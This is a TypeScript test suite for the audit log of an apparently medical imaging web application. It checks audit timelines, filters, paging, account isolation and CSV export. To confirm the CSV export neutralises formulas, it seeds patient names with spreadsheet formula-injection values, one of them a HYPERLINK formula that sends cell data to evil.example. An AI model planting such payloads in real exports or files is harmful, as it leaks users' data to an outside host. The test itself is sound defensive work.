import { afterAll, beforeAll, expect, test } from 'vitest';
import { ctStudy, type SyntheticFile } from '../../packages/testbed/src/index.ts';
import { type AuditRecord, openedLink, startWebSite, type WebSite } from './web-site.ts';

let site: WebSite;
let files: SyntheticFile[];
let studyId: string;
let otherId: string;
const hostile = '=HYPERLINK("https://evil.example/?x="&A1,"click")^@SUM(1+1)';

const small = { slices: 3, rows: 16, columns: 16 };
beforeAll(async () => {
  site = await startWebSite();
  files = [...ctStudy({ seed: 5500, ...small, person: { patientName: 'Spur^Sina', studyDate: '20240305' } })];
  await site.store(files);
  await site.store([...ctStudy({ seed: 5501, ...small, person: { patientName: '@cmd^+1', patientId: '=1+1' } })]);
  const { studies } = await site.worklist({ name: 'spur' });
  studyId = studies[0]!.id;
  otherId = (await site.worklist({ name: '@cmd' })).studies[0]!.id;
});
afterAll(() => site.exchange.dispose());

/** What was searched for stands there blind: the words of a search outlive whom they named. */
const blind = expect.stringMatching(/^#[0-9a-f]{12}$/);
const what = ({ action, kind, outcome }: AuditRecord): string => `${action} ${kind} ${outcome}`;
async function all(query: Record<string, string>): Promise<AuditRecord[]> {
  const records: AuditRecord[] = [];
  for (let next: string | null = ''; next !== null; ) {
    const page: { records: AuditRecord[]; next: string | null } = await site.audit(
      next === '' ? query : { ...query, before: next },
    );
    records.push(...page.records);
    next = page.next;
  }
  return records;
}

test('of a study: that it was sent, found, looked at and taken, each once, by whom and from where', async () => {
  await site.json(`/api/v1/studies/${studyId}`);
  await site.json(`/api/v1/studies/${studyId}`);
  await site.get(`/api/v1/studies/${studyId}/archive`);
  const records = await all({ study: studyId });
  expect(records.map(what)).toEqual([
    'study.download read success',
    'study.view read success',
    'study.search read success',
    'instance.store create success',
  ]);
  const me = await site.json<{ userId: string; name: string }>('/api/v1/me');
  for (const record of records) {
    expect(record.who).toEqual({ kind: 'person', name: me.name, userId: me.userId, linkId: null });
    expect(record.by).toBe('token');
    expect(record.address).toMatch(/^(127\.0\.0\.1|::1|::ffff:127\.0\.0\.1)$/);
    expect(record.study).toEqual({ id: studyId, patientName: 'Spur, Sina', date: '2024-03-05' });
    expect(Date.now() - new Date(record.at).getTime()).toBeLessThan(600_000);
  }
  expect(records.map(({ detail }) => detail)).toEqual([
    null,
    null,
    expect.objectContaining({ name: blind, studies: 1 }),
    expect.objectContaining({ instances: 3 }),
  ]);
  // A list that did not show the study is not in its timeline.
  await site.worklist({ name: 'nobody' });
  expect(await all({ study: studyId })).toHaveLength(4);
});

test('at a stop the detail of a reading follows its opening: how often, and how many images', async () => {
  await site.exchange.restart();
  for (const file of files)
    await site.get(
      `/dicomweb/studies/${file.studyInstanceUid}/series/${file.seriesInstanceUid}/instances/${file.sopInstanceUid}`,
      { accept: 'application/dicom' },
    );
  await site.exchange.stop();
  await site.exchange.restart();
  const [detail, opening] = await all({ study: studyId, action: 'study.view' });
  expect([detail?.detail, opening?.detail]).toEqual([{ times: 3, instances: 3 }, null]);
});

test('of a person: all that they did, and who reads it is in it before they see it', async () => {
  const { userId } = await site.json<{ userId: string }>('/api/v1/me');
  const before = await all({ user: userId });
  const actions = new Set(before.map(({ action }) => action));
  for (const action of ['audit.view', 'study.search', 'study.view', 'study.download', 'instance.store'])
    expect(actions, action).toContain(action);
  expect(before[0]).toMatchObject({ action: 'audit.view', kind: 'read', detail: { as: 'page', user: userId } });
  expect(await all({ user: '00000000-0000-4000-8000-000000000000' })).toEqual([]);
});

test('of a link: how it was opened, what was seen by it, and what was refused', async () => {
  const { linkId, headers } = await openedLink(site, studyId, false);
  await site.get(`/api/v1/shared/${linkId}/study`, headers);
  await site.get(`/api/v1/shared/${linkId}/study/archive`, headers);
  const records = await all({ link: linkId });
  const { name } = await site.json<{ name: string }>('/api/v1/me');
  expect(records.map((record) => `${what(record)} by ${record.who.name} (${record.by})`)).toEqual([
    `study.download execute refused by link of ${name} (null)`,
    `study.view read success by link of ${name} (link)`,
    `link.open execute success by link of ${name} (link)`,
    `link.create create success by ${name} (token)`,
  ]);
  expect(records.map(({ who }) => who.linkId)).toEqual([linkId, linkId, linkId, linkId]);
  const inStudy = await all({ study: studyId });
  expect(inStudy.map(({ id }) => id)).toEqual(expect.arrayContaining(records.slice(1).map(({ id }) => id)));
  const { uses } = await site.json<{ uses: { what: string; images: number | null }[] }>(`/api/v1/links/${linkId}/uses`);
  expect(uses.map((use) => use.what)).toEqual(['refused', 'viewed', 'opened']);
});

test('filters hold together: kind, outcome, action and days', async () => {
  await site.get('/api/v1/links', { authorization: 'Bearer wrong' });
  // A day more on either side: midnight may come while this runs.
  const day = (days: number): string => new Date(Date.now() + days * 86_400_000).toISOString().slice(0, 10);
  expect((await all({ kind: 'create' })).every(({ kind }) => kind === 'create')).toBe(true);
  expect((await all({ outcome: 'refused' })).every(({ outcome }) => outcome === 'refused')).toBe(true);
  expect((await all({ action: 'study.download', kind: 'read', study: studyId })).map(what)).toEqual([
    'study.download read success',
    'study.download read success',
  ]);
  expect((await all({ from: day(-1), to: day(1), study: studyId })).length).toBeGreaterThan(3);
  expect(await all({ from: day(2) })).toEqual([]);
  expect(await all({ to: day(-2) })).toEqual([]);
});

test('pages of fifty follow one another without a gap, while more happens', async () => {
  for (let time = 0; time < 60; time += 1) await site.worklist({ name: 'nobody', page: 1 + time });
  const first = await site.audit({ action: 'study.search' });
  expect(first.records).toHaveLength(50);
  await site.worklist();
  const second = await site.audit({ action: 'study.search', before: first.next! });
  const ids = [...first.records, ...second.records].map(({ id }) => id);
  expect(new Set(ids).size).toBe(ids.length);
  const rows = await site.sql<{ id: string }>(
    "select id from audit_records where action = 'study.search' and account_id is not null order by at desc, id desc offset 1",
  );
  expect(ids).toEqual(rows.slice(0, ids.length).map(({ id }) => id));
});

test.each([{ before: 'nonsense' }, { before: 'WzEsMl0' }, { study: '1.2.3' }, { kind: 'all' }, { from: 'yesterday' }])(
  '%j is refused as not valid',
  async (query) => {
    const answer = await site.get(`/api/v1/audit?${new URLSearchParams(query as Record<string, string>)}`);
    expect(answer.status).toBe(400);
    expect(JSON.parse(answer.body.toString())).toMatchObject({ code: 'REQUEST_INVALID' });
  },
);

test("another account's records are never among them", async () => {
  const [{ count } = { count: 0 }] = await site.sql<{ count: number }>(
    'select count(*)::int as count from audit_records',
  );
  await site.sql(
    `insert into audit_records (id, at, account_id, action, kind, outcome, study_id, shown)
     select gen_random_uuid(), now(), gen_random_uuid(), 'study.view', 'read', 'success', $1::uuid, null
     union all select gen_random_uuid(), now(), gen_random_uuid(), 'study.search', 'read', 'success', null, array[$1::uuid]
     union all select gen_random_uuid(), now(), null, 'study.search', 'read', 'refused', null, null`,
    [studyId],
  );
  expect(count).toBeGreaterThan(0);
  const mine = new Set((await all({})).map(({ id }) => id));
  const others = await site.sql<{ id: string }>(
    'select id from audit_records where account_id is distinct from (select account_id from memberships limit 1)',
  );
  expect(others.length).toBeGreaterThan(2);
  for (const { id } of others) expect(mine.has(id)).toBe(false);
  for (const { id } of await all({ study: studyId })) expect(others.map((other) => other.id)).not.toContain(id);
});

test('a detail that does not open hides neither its record nor the others', async () => {
  await site.sql(
    "update audit_records set detail = '\\x00' where id = (select id from audit_records where study_id = $1 and detail is not null order by at limit 1)",
    [studyId],
  );
  const records = await all({ study: studyId });
  expect(records.filter(({ detail }) => detail?.unreadable === true)).toHaveLength(1);
  expect(records.length).toBeGreaterThan(3);
});

/** A reader of RFC 4180 by another hand than the writer's. */
function rowsOf(csv: string): string[][] {
  const rows: string[][] = [[]];
  for (const [, quoted, separator] of csv.matchAll(/"((?:[^"]|"")*)"(,|\r\n)/g)) {
    rows.at(-1)!.push(quoted!.replaceAll('""', '"'));
    if (separator === '\r\n') rows.push([]);
  }
  return rows.slice(0, -1);
}

test('as CSV: all of it, for Excel too, and no cell is a formula whatever a patient is called', async () => {
  await site.json(`/api/v1/studies/${otherId}`);
  await site.store([...ctStudy({ seed: 5502, ...small, person: { patientName: hostile, patientId: '-1' } })]);
  await site.worklist({ name: '=1+1', id: '@x' });
  const answer = await site.get('/api/v1/audit.csv');
  expect(answer.headers).toMatchObject({
    'content-type': 'text/csv; charset=utf-8',
    'content-disposition': 'attachment; filename="audit.csv"',
    'cache-control': 'no-store',
  });
  expect([...answer.body.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
  const text = answer.body.subarray(3).toString('utf8');
  const [head, ...rows] = rowsOf(text);
  expect(rows.map((row) => row.map((cell) => `"${cell.replaceAll('"', '""')}"`).join(',')).join('\r\n')).toBe(
    text.slice(text.indexOf('\r\n') + 2, -2),
  );
  for (const row of rows) {
    expect(row).toHaveLength(head!.length);
    for (const cell of row) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
  }
  expect(rows.map((row) => row[9])).toEqual(expect.arrayContaining(["'@cmd, +1", 'Spur, Sina']));
  expect(rows.slice(0, 2).map((row) => row[5])).toEqual(['audit.view', 'study.search']);
  const records = await all({});
  const known = new Set(rows.map((row) => row.at(-1)));
  // What was recorded since: the CSV's own look, and the pages just read.
  expect(records.filter(({ id, action }) => !known.has(id) && action !== 'audit.view')).toEqual([]);
  expect(records.find(({ detail }) => detail?.as === 'csv')).toMatchObject({ action: 'audit.view', kind: 'read' });
});

test('as CSV with the filters of the page', async () => {
  const answer = await site.get(`/api/v1/audit.csv?study=${studyId}&action=study.download`);
  expect(
    rowsOf(answer.body.toString())
      .slice(1)
      .map((row) => `${row[5]} ${row[7]}`)
      .sort(),
  ).toEqual(['study.download refused', 'study.download success', 'study.download success']);
});

test('no record stands twice in the timeline of a study, though a list of its links is about it and shows it', async () => {
  const made = await site.post(`/api/v1/studies/${studyId}/links`, { expiresAt: new Date(Date.now() + 60_000) });
  expect(made.status).toBe(201);
  await site.get(`/api/v1/studies/${studyId}/links`);
  const ids = (await all({ study: studyId })).map(({ id }) => id);
  expect(ids.length).toBe(new Set(ids).size);
  expect((await all({ study: studyId, action: 'link.list' })).length).toBeGreaterThan(0);
});
